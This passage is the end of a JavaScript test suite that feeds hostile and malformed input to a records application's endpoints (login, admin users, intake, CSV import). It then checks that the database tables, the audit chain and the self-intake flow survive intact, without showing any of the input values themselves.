  ['GET /persons/<weird id>', idCases],
  ['POST /persons/:id/intake', intakeCases],
  ['POST /admin/users', userCases],
  ['POST /admin/users/:id/pin', pinCases],
  ['POST /login', loginCases],
  ['self-intake', selfCases],
  ['POST /imports (CSV)', csvCases],
];
const ALL = AREAS.flatMap(([, cases]) => cases);

describe('hostile and malformed input', () => {
  it(`covers at least 120 hostile values (${ALL.length} cases)`, () => {
    expect(ALL.length).toBeGreaterThanOrEqual(120);
    expect(new Set(ALL.map((c) => c.name)).size, 'case names are unique').toBe(ALL.length);
  });

  for (const [area, cases] of AREAS) {
    describe(area, () => {
      for (const c of cases) runCase(c);
    });
  }

  it('leaves the vault whole: tables present, audit chain intact, the self-intake code still usable', async () => {
    expect(vault.db.prepare("SELECT count(*) FROM sqlite_master WHERE type = 'table' AND name IN ('persons', 'person_numbers', 'users', 'audit_events')").pluck().get()).toBe(4);
    expect(verifyChain(vault.auditRepo, vault.keys.audit).ok).toBe(true);
    const b = browsers.self;
    const res = await b.post('/intake', { code: selfCode, own: num(), acknowledged: 'yes' });
    expect(res.status).toBe(200);
    expect(res.text).toContain('ご提出ありがとうございました');
    expectSafeBody(res);
  });
});
